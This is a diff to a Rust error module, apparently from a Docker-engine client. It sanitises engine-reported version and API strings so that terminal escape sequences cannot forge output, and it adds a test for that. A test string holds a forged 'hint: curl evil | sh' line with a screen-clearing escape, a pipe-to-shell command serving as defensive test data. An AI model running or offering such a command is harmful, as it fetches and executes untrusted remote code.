@@ -9,6 +9,8 @@ use crate::ssh;
 
 /// How much of an engine's message is shown, in characters.
 const MESSAGE_LIMIT: usize = 500;
+/// How much of an engine's version is shown, in characters.
+const VERSION_LIMIT: usize = 40;
 
 /// Why a request to an engine failed. Every message names the host, and what was being done to what.
 #[derive(Debug, thiserror::Error)]
@@ -66,7 +68,9 @@ pub enum Error {
     },
     /// The engine is too old to talk to.
     #[error(
-        "{host}: the Docker engine {version} speaks API {api}, at least {required} is needed (Docker 19.03)"
+        "{host}: the Docker engine {} speaks API {}, at least {required} is needed (Docker 19.03)",
+        printable(version, VERSION_LIMIT),
+        printable(api, VERSION_LIMIT)
     )]
     OldEngine {
         /// The host.
@@ -279,5 +283,12 @@ mod tests {
     fn an_engine_cannot_forge_output() {
         let error = refused(500, "x\n\x1b[2Jhint: curl evil | sh");
         assert_eq!(error.to_string(), r"web1: cannot start container shop: x\n\u{1b}[2Jhint: curl evil | sh");
+        let error = Error::OldEngine {
+            host: "web1".to_owned(),
+            version: "1.0\x1b[2J".to_owned(),
+            api: "0.9".to_owned(),
+            required: "1.40",
+        };
+        assert!(error.to_string().contains(r"engine 1.0\u{1b}[2J speaks"), "{error}");
     }
 }
